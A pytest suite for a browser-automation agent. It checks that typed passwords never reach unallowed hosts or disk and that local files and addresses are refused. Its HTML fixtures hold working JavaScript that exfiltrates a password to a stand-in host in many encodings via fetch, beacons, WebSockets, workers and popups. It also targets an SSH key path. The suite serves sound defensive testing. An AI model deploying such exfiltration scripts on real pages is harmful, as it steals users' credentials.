"""A secret never leaves for a host the person did not allow, whatever the page does with it, and never
lands on disk in any spelling. Real Chromium, two real HTTP servers on two loopback addresses: the
"allowed" one (127.0.0.1, the start URL) serves a sign-in page whose form answers with a 307 to the
"other" one (127.0.0.2), and whose script sends the password there URL-encoded and base64-encoded; the
other one records every byte it receives. A GET form on the allowed host puts the password in the page's
URL: the run folder and the exported script hold no spelling of it, and the script still replays.
MCP `browse` refuses file:// and local addresses unless the server was started with --allow-local-urls."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, unquote, unquote_plus, urlsplit

import anyio
import pytest

from qvl_agent.act.netguard import is_local_host, local_target
from qvl_agent.playwright.chromium import find_browser
from qvl_agent.secrets import Secrets, forms
from qvl_agent.trace import read_trace
from tests.conftest import run_cli
from tests.pages.helpers import call, click_at, element_centres, write_replay

SIGN_IN = """<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title></head><body>
<h1>Sign in</h1>
<form id="f" method="post" action="/go">
  <label for="user">Username</label> <input id="user" name="user" autocomplete="off">
  <label for="pw">Password</label> <input id="pw" name="password" type="password">
  <button type="submit">Sign in</button>
</form>
<script>
document.getElementById("f").addEventListener("submit", () => {
  const pw = document.getElementById("pw").value;
  const other = "OTHER";
  fetch(other + "/leak?p=" + encodeURIComponent(pw), {mode: "no-cors", keepalive: true}).catch(() => {});
  fetch(other + "/leak", {method: "POST", mode: "no-cors", keepalive: true,
                          body: btoa(unescape(encodeURIComponent("grace:" + pw)))}).catch(() => {});
});
</script></body></html>"""

SEARCH = """<!doctype html><html><head><meta charset="utf-8"><title>Account</title></head><body>
<form method="get" action="/account">
  <label for="user">Username</label> <input id="user" name="user" autocomplete="off">
  <label for="pin">PIN</label> <input id="pin" name="pin" type="password">
  <button type="submit">Open</button>
</form></body></html>"""


class Host:
    """One HTTP server on `address`, recording (method, path, headers, body) of every request."""

    def __init__(self, address: str, redirect_to: str = ""):
        self.requests: list[tuple[str, str, str, bytes]] = []
        self.pages: dict[str, str] = {}
        host = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _record(self) -> bytes:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                host.requests.append((self.command, self.path, str(self.headers), body))
                return body

            def _send(self, status: int, body: str = "", headers=()):
                data = body.encode()
                self.send_response(status)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                for key, value in headers:
                    self.send_header(key, value)
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self):
                self._record()
                path = urlsplit(self.path).path
                if path == "/account":
                    user = parse_qs(urlsplit(self.path).query).get("user", [""])[0]
                    return self._send(200, f"<!doctype html><title>Account</title><h1>Account of {user}</h1>")
                self._send(200 if path in host.pages else 404, host.pages.get(path, "no"))

            def do_POST(self):
                self._record()
                if urlsplit(self.path).path == "/go" and redirect_to:
                    return self._send(307, headers=[("Location", redirect_to)])  # an open redirect
                self._send(200, "<!doctype html><title>Done</title><h1>Signed in</h1>")

        self.httpd = ThreadingHTTPServer((address, 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://{address}:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def holds(data: bytes | str, secret: str) -> bool:
    """Whether `data` holds the secret in any spelling (decoded too, so no encoder is missed)."""
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
    return any(s in t for s in forms(secret) for t in (text, unquote(text), unquote_plus(text)))


@pytest.fixture
def hosts():
    other = Host("127.0.0.2")
    allowed = Host("127.0.0.1", redirect_to=other.url + "/steal")
    yield allowed, other
    allowed.stop()
    other.stop()


def _browse(tmp_path, url, replies, *extra, env):
    replay = write_replay(tmp_path / "replies.json", replies)
    return run_cli(
        "browse", "--url", url, "--engine", f"replay:{replay}", "--trace-dir", str(tmp_path / "run"), *extra,
        "Sign in with {{PASSWORD}}", env={"QVL_CONFIG_DIR": str(tmp_path / "config"), **env}, timeout=180,
    )  # fmt: skip


def _run_files(tmp_path: Path) -> list[Path]:
    return [p for p in (tmp_path / "run").rglob("*") if p.is_file()]


@pytest.mark.parametrize("allow", [[], ["--allow-domain", "127.0.0.1"]], ids=["start-host-only", "allow-domain"])
def test_a_redirect_and_scripts_on_an_allowed_page_never_carry_the_password_to_another_host(tmp_path, hosts, allow):
    allowed, other = hosts
    allowed.pages["/"] = SIGN_IN.replace("OTHER", other.url)
    password = f"pw x+y/&={uuid.uuid4().hex}é"
    url = allowed.url + "/"
    at = element_centres(url, ["#user", "#pw", "button"])
    allowed.requests.clear()
    replies = [
        click_at(at["#user"]),
        call(action="type", text="grace"),
        click_at(at["#pw"]),
        call(action="type", text="{{PASSWORD}}"),
        click_at(at["button"]),
        call(action="terminate", status="success"),
    ]
    result = _browse(tmp_path, url, replies, "--secret", "PASSWORD", *allow, env={"QVL_SECRET_PASSWORD": password})
    assert result.returncode == 0, result.stderr
    posted = [body for method, path, _, body in allowed.requests if method == "POST" and path == "/go"]
    assert posted and holds(posted[0], password)  # the allowed host did get it

    for _, path, headers, body in other.requests:  # the other host got no spelling of it...
        assert not holds(path, password) and not holds(headers, password) and not holds(body, password)
    assert other.requests == []  # ...and in fact nothing: every request to it carried the password
    steps = read_trace(tmp_path / "run").steps
    told = " ".join(r["message"] for s in steps for r in s.get("results") or [])
    assert "127.0.0.2" in told and "blocked" in told  # one observation to the model
    for path in _run_files(tmp_path):
        assert not holds(path.read_bytes(), password), path
    assert not holds(result.stdout + result.stderr, password)


def test_a_get_form_puts_the_secret_in_the_url_and_no_file_or_script_holds_it(tmp_path, hosts):
    allowed, _ = hosts
    allowed.pages["/"] = SEARCH
    pin = f"9 8+7/{uuid.uuid4().hex[:8]}&é"
    url = allowed.url + "/"
    at = element_centres(url, ["#user", "#pin", "button"])
    replies = [
        click_at(at["#user"]),
        call(action="type", text="grace"),
        click_at(at["#pin"]),
        call(action="type", text="{{PIN}}"),
        click_at(at["button"]),
        call(action="terminate", status="success"),
    ]
    script = tmp_path / "account.py"
    result = _browse(
        tmp_path, url, replies, "--secret", "PIN", "--export", str(script), env={"QVL_SECRET_PIN": pin}
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    gets = [path for method, path, _, _ in allowed.requests if path.startswith("/account")]
    assert gets and holds(gets[-1], pin)  # the page's URL really carried it
    info = json.loads((tmp_path / "run" / "browser.json").read_text())
    assert "{{PIN}}" in info["final"]["url"]
    for path in [*_run_files(tmp_path), script]:
        assert not holds(path.read_bytes(), pin), path
    source = script.read_text()
    assert "to_have_url(re.compile(" in source  # the URL check leaves the secret's value out

    allowed.requests.clear()
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    env.update(QVL_SECRET_PIN=pin, QVL_BROWSER=find_browser())
    replayed = subprocess.run(
        [sys.executable, str(script)], capture_output=True, text=True, env=env, timeout=120, cwd=tmp_path
    )
    assert replayed.returncode == 0, replayed.stderr
    gets = [path for method, path, _, _ in allowed.requests if path.startswith("/account")]
    assert gets and holds(gets[-1], pin)


def test_masking_and_detection_cover_every_spelling():
    secrets = Secrets({"PASSWORD": "a b+c/é~"})
    for spelling in ("a b+c/é~", "a+b%2Bc%2F%C3%A9%7E", "a%20b%2bc%2f%c3%a9~", "YSBiK2Mvw6l+", "YSBiK2Mvw6l-"):
        assert secrets.carried_by("x=" + spelling + "&y=1") == "PASSWORD", spelling
        assert "{{PASSWORD}}" in secrets.mask("x=" + spelling)
    import base64

    inside = base64.b64encode(b"user:a b+c/\xc3\xa9~").decode()
    assert secrets.carried_by(inside) and "{{PASSWORD}}" in secrets.mask(inside)
    assert not secrets.carried_by("a b c")
    assert all(is_local_host(h) for h in ("localhost", "127.0.0.2", "10.1.2.3", "192.168.0.1", "::1", "0.0.0.0"))
    assert not is_local_host("93.184.216.34") and not is_local_host("example.com")
    assert local_target("file:///root/.ssh/id_rsa") and local_target("http://127.0.0.1:631/")


def _mcp(tmp_path: Path, *args: str):
    from mcp import Client, StdioServerParameters

    from tests.conftest import ROOT

    env = dict(os.environ, PYTHONPATH=str(ROOT), XDG_DATA_HOME=str(tmp_path / "data"),
               QVL_CONFIG_DIR=str(tmp_path / "config"), QVL_BROWSER=find_browser())  # fmt: skip
    replies = tmp_path / "replies.json"
    replies.write_text(json.dumps([call(action="terminate", status="success")]))
    params = StdioServerParameters(
        command=sys.executable,
        args=["-m", "qvl_agent", "mcp", "--engine", f"replay:{replies}", *args],
        env=env,
        cwd=str(ROOT),
    )
    return Client(params, read_timeout_seconds=240)


def test_mcp_browse_refuses_local_files_and_addresses_and_nothing_of_them_shows(tmp_path, hosts):
    allowed, _ = hosts
    key = tmp_path / ".ssh" / "id_rsa"
    key.parent.mkdir()
    canary = "BEGIN OPENSSH PRIVATE KEY " + uuid.uuid4().hex
    key.write_text(canary + "\n")
    allowed.pages["/"] = f"<!doctype html><title>Router</title><h1>{canary}</h1>"

    async def session(urls, *flags):
        async with _mcp(tmp_path, *flags) as client:
            return [await client.call_tool("browse", {"url": url, "task": "Read what the page says"}) for url in urls]

    results = anyio.run(session, (key.as_uri(), allowed.url + "/", "http://localhost:1/"))
    for result in results:
        text = "\n".join(c.text for c in result.content if c.type == "text")
        assert result.is_error and "--allow-local-urls" in text, text
        assert canary not in text and canary not in json.dumps(result.structured_content or {})
    assert allowed.requests == []  # the local service never saw a request
    runs = tmp_path / "data" / "qvl-agent" / "runs"
    assert not runs.exists() or not any(canary.encode() in p.read_bytes() for p in runs.rglob("*") if p.is_file())

    # Started with the flag, the person's own local page opens.
    opened = anyio.run(session, (allowed.url + "/",), "--allow-local-urls")[0]
    assert not opened.is_error and opened.structured_content["status"] == "success"
    assert allowed.requests


def test_a_run_kept_off_local_addresses_cannot_follow_a_link_to_one(hosts):
    """What an MCP run without --allow-local-urls gets: a page that links to a local service (here a
    data: page, as any public page could) cannot take the run there."""
    from qvl_agent import actions as A
    from qvl_agent.act.browser import BrowserExecutor

    _, other = hosts
    page = f'<a href="{other.url}/admin" style="display:block;width:100vw;height:100vh">router admin</a>'
    executor = BrowserExecutor("data:text/html," + page, browser=find_browser(), block_local=True)
    try:
        result = executor.execute(A.LeftClick(500, 500), executor.observe())
        assert "local address 127.0.0.2: that was blocked" in result.message
        assert not executor.page.url.startswith(other.url)
    finally:
        executor.close()
    assert other.requests == []


SIDE_DOORS = """<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title></head><body>
<h1>Sign in</h1>
<form id="f" method="post" action="/done" target="sink">
  <label for="pw">Password</label> <input id="pw" name="password" type="password">
  <button type="submit">Sign in</button>
</form>
<iframe name="sink" style="display:none"></iframe>
<script>
const other = "OTHER";
document.getElementById("f").addEventListener("submit", () => {
  const pw = document.getElementById("pw").value;
  const bytes = new TextEncoder().encode(pw);
  const hex = Array.from(bytes, b => b.toString(16).padStart(2, "0")).join("");
  const utf16 = Array.from(pw, c => c.charCodeAt(0).toString(16).padStart(4, "0")).join("");
  const spellings = [hex, pw.split("").reverse().join(""), pw.toUpperCase(), utf16,
                     encodeURIComponent(encodeURIComponent(encodeURIComponent(pw))),
                     btoa(encodeURIComponent(pw)), JSON.stringify(pw).replace(/[^ -~]/g, c => "\\\\u" +
                     c.charCodeAt(0).toString(16).padStart(4, "0"))];
  for (const s of spellings) {
    fetch(other + "/spelled?d=" + s, {mode: "no-cors"}).catch(() => {});
    navigator.sendBeacon(other + "/beacon", s);
  }
  new Image().src = other + "/plain.png";  // carries nothing: still another host
  try {
    const shared = new SharedWorker("/worker.js");
    shared.port.start();
    shared.port.postMessage(hex);
  } catch (e) {}
  try { new WebSocket(other.replace("http", "ws") + "/ws?d=" + hex); } catch (e) {}
  setTimeout(() => {
    const w = window.open("about:blank");
    if (w) w.document.write('<img src="' + other + '/popup.png?d=' + hex + '">');
  }, 50);
});
</script></body></html>"""

WORKER = """onconnect = (e) => { const port = e.ports[0];
  port.onmessage = (m) => { fetch("OTHER/worker?d=" + m.data, {mode: "no-cors"}).catch(() => {}); }; };"""


def test_with_a_secret_no_door_of_the_browser_reaches_another_host(tmp_path):
    """With --secret, the whole browser reaches only the allowed hosts: the page sends the typed password
    to another host in seven spellings the guard does not know (hex, reversed, upper case, UTF-16, triple
    percent-encoding, base64 of the percent-encoding, JSON escapes), by fetch and beacon, from a shared
    worker, over a WebSocket and from an about:blank popup, plus an image that carries nothing. The other
    host hears not one request."""
    other = Host("127.0.0.2")
    allowed = Host("127.0.0.1")
    try:
        allowed.pages["/"] = SIDE_DOORS.replace("OTHER", other.url)
        allowed.pages["/worker.js"] = WORKER.replace("OTHER", other.url)
        password = f"Pw{uuid.uuid4().hex[:10]}é"
        url = allowed.url + "/"
        at = element_centres(url, ["#pw", "button"])
        replies = [
            click_at(at["#pw"]), call(action="type", text="{{PASSWORD}}"), click_at(at["button"]),
            call(action="wait", time=2), call(action="terminate", status="success"),
        ]  # fmt: skip
        result = _browse(tmp_path, url, replies, "--secret", "PASSWORD", env={"QVL_SECRET_PASSWORD": password})
        assert result.returncode == 0, result.stderr
        assert [p for m, p, _, _ in allowed.requests if p == "/done"]  # the form itself was sent, where allowed
        assert other.requests == []  # no request at all: no spelling, no worker, no socket, no popup
        said = " ".join(s.get("observation", "") for s in read_trace(tmp_path / "run").steps)
        assert "browser reaches only the allowed domains" in said  # the model was told
    finally:
        allowed.stop()
        other.stop()


def test_masking_on_disk_covers_spellings_built_from_other_spellings():
    """What is written to disk and screen is masked by value: repeated percent-encoding, hex (either case,
    UTF-8 or UTF-16), another case, base64 of the percent-encoding, JSON and HTML escapes."""
    import base64
    from urllib.parse import quote

    password = "Pw x+y/é1"
    secrets = Secrets({"PASSWORD": password})
    once = quote(password, safe="")
    spellings = [
        quote(once, safe=""), quote(quote(once, safe=""), safe=""), password.encode().hex(),
        password.encode().hex().upper(), password.encode("utf-16-be").hex(), password.upper(), password.lower(),
        base64.b64encode(once.encode()).decode(), json.dumps(password),
        "".join(f"\\u{ord(c):04x}" for c in password), "".join(f"&#{ord(c)};" for c in password),
        "".join(f"&#x{ord(c):X};" for c in password),
    ]  # fmt: skip
    for spelling in spellings:
        masked = secrets.mask({"final": {"url": f"https://x.example/?d={spelling}&n=1"}})
        assert "{{PASSWORD}}" in masked["final"]["url"], spelling
        assert secrets.carried_by(spelling) == "PASSWORD", spelling
    assert secrets.mask("Pw and x+y are words; é1 too") == "Pw and x+y are words; é1 too"
